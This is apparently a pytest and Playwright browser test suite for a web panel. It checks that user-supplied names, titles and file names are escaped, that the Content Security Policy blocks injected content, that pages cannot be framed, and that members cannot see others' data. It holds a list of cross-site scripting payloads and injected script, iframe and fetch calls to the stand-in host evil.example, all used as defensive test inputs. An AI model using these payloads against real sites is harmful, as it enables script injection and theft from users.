"""Names and messages of others in the real pages, in Chromium: they are shown, and nothing of them runs."""

from __future__ import annotations

import base64
import hashlib
from dataclasses import dataclass
from pathlib import Path

import pytest
from playwright.sync_api import Page

from tests.browser.conftest import Visit
from tests.panels import PASSWORD, PanelProcess
from tests.processes import House
from tests.ui.panel.who_may import DOORS, Who
from tests.waiting import wait_for

# Each of them would write into window.pwned, by another way: an element, a script, the end of ours, an expression of a template, a link.
HOSTILE = (
    "<img src=x onerror=pwned=1><svg onload=pwned=2>", "<script>pwned=3</script>", "</script><script>pwned=4</script>",
    "{{constructor.constructor('pwned=5')()}}", "javascript:pwned=6", "`+(pwned=7)+`${pwned=8}", "'\";pwned=9;//", "\u2028pwned=10//",
)  # fmt: skip
TITLE = "Film " + " ".join(HOSTILE)
FILE_NAME = "<img src=x onerror=pwned=11>`${pwned=12}`.html"
PAGE = b"<!doctype html><script>parent.pwned=13;document.title='it ran'</script>"
_PAGES = [door for door in DOORS if door.is_page or door.path in {"/upload", "/login"}]
_DRAWN_ANEW = {"/archives", "/archives/{archive_id}", "/connections", "/log"}  # on a phone, with other elements


@dataclass(frozen=True)
class Hostile:
    """``ada`` owns all of it; ``ben`` has nothing."""

    ada: str
    ben: str
    archive: str
    connection: str

    def address(self, example: str) -> str:
        return example.format(archive=self.archive, connection=self.connection, script="odd")


@pytest.fixture(scope="module")
def hostile(house: House, panel: PanelProcess, admin: str) -> Hostile:
    house.ask("user/add", name="ben", role="member", password=PASSWORD, display_name=HOSTILE[0])
    archive = _put(house, FILE_NAME, TITLE)
    house.wait_remote(archive)
    connection = house.ask("connection/list")["connections"][0]["id"]
    house.ask("connection/rename", connection=connection, name=f"Disk {HOSTILE[0]}")
    source = base64.b64encode(HOSTILE[0].encode()).decode()
    house.ask("script/save", script="odd", title=HOSTILE[0], description=HOSTILE[0], source_base64=source)
    odd = house.data / "inbox" / "NOBODY <img src=x onerror=pwned=14>"
    odd.mkdir(parents=True)
    (odd / "{{constructor.constructor('pwned=15')()}}").write_bytes(b"x")
    wait_for(lambda: "onerror=pwned=14" in str(house.ask("log/query", limit=200)), 30, "a line of the log, and a problem, with that name")
    return Hostile(admin, panel.sign_in("ben"), archive, connection)


def _put(house: House, name: str, title: str) -> str:
    begun = house.ask("archive/begin", file_name=name, size_bytes=len(PAGE), title=title, owner="ada")
    Path(begun["path"]).write_bytes(PAGE)
    house.ask("archive/commit", archive_id=begun["archive_id"], sha256=hashlib.sha256(PAGE).hexdigest())
    wait_for(lambda: house.ask("archive/upload", archive_id=begun["archive_id"])["state"] == "received", 30, "the file to be received")
    return str(begun["archive_id"])


def _pwned(page: Page) -> object:
    return page.evaluate("window.pwned")


@pytest.mark.parametrize("width", ["desk", "phone"])
def test_nothing_of_a_name_or_a_message_runs_on_any_page(visit: Visit, hostile: Hostile, width: str) -> None:
    visitor = visit(hostile.ada, width=width)
    shown = []
    for door in _PAGES if width == "desk" else [one for one in _PAGES if one.path in _DRAWN_ANEW]:
        page = visitor.open(hostile.address(door.example))
        page.wait_for_timeout(150)  # for what comes by the websocket; what it brings is text, or the policy below has something to say
        assert _pwned(page) is None, door.path
        shown += [door.path for text in (TITLE, "Disk <img", "onerror=pwned=14") if text in page.locator("body").inner_text()]
    assert not [one for one in visitor.complaints if "Content Security Policy" in one or "Content-Security-Policy" in one]
    assert set(shown) >= _DRAWN_ANEW, "they are shown as they are"


def test_what_gets_into_a_page_all_the_same_does_not_run(visit: Visit, hostile: Hostile) -> None:
    visitor = visit(hostile.ada)
    page = visitor.open("/")
    page.evaluate("""() => {
        window.refused = [];
        document.addEventListener("securitypolicyviolation", (event) => window.refused.push(event.effectiveDirective));
        document.body.insertAdjacentHTML("beforeend", "<img src=x onerror=pwned=1><a id=evil href='javascript:pwned=2'>x</a>");
        document.body.append(Object.assign(document.createElement("script"), {textContent: "window.pwned=3"}));
        document.body.append(Object.assign(document.createElement("script"), {src: "https://evil.example/x.js"}));
        document.body.append(Object.assign(document.createElement("iframe"), {src: "https://evil.example/"}));
        fetch("https://evil.example/").catch(() => {});
        document.getElementById("evil").click();
    }""")
    page.wait_for_function("new Set(window.refused).size >= 4")
    assert _pwned(page) is None
    assert {"script-src-attr", "script-src-elem", "frame-src", "connect-src"} <= set(page.evaluate("window.refused"))


def test_a_stored_page_is_saved_under_its_name_and_not_shown(visit: Visit, hostile: Hostile) -> None:
    page = visit(hostile.ada).open(f"/archives/{hostile.archive}")
    with page.expect_download() as saved:
        page.evaluate(f"window.location = '/files/{hostile.archive}'")
    assert Path(saved.value.path()).read_bytes() == PAGE
    assert "`${pwned=12}`.html" in saved.value.suggested_filename
    assert _pwned(page) is None


def test_no_page_of_ours_is_shown_inside_another(visit: Visit, hostile: Hostile) -> None:
    page = visit(hostile.ada).open("/login")
    page.evaluate("""() => {
        document.body.append(Object.assign(document.createElement("iframe"), {src: "/", name: "inner"}));
    }""")
    page.wait_for_timeout(500)
    inner = page.frame("inner")
    assert inner is None or "Overview" not in inner.content()


def test_a_member_reads_nothing_of_others_on_any_page(visit: Visit, hostile: Hostile) -> None:
    visitor = visit(hostile.ben)
    for door in _PAGES:
        page = visitor.open(hostile.address(door.example))
        page.wait_for_timeout(150)
        words = page.content()
        for secret in ("Film &lt;img", "Film <img", "pwned=11", "pwned=14", "pwned=15"):
            assert secret not in words, f"{door.path} tells {secret}"
        assert door.who is not Who.ADMIN or "This page is for admins" in words
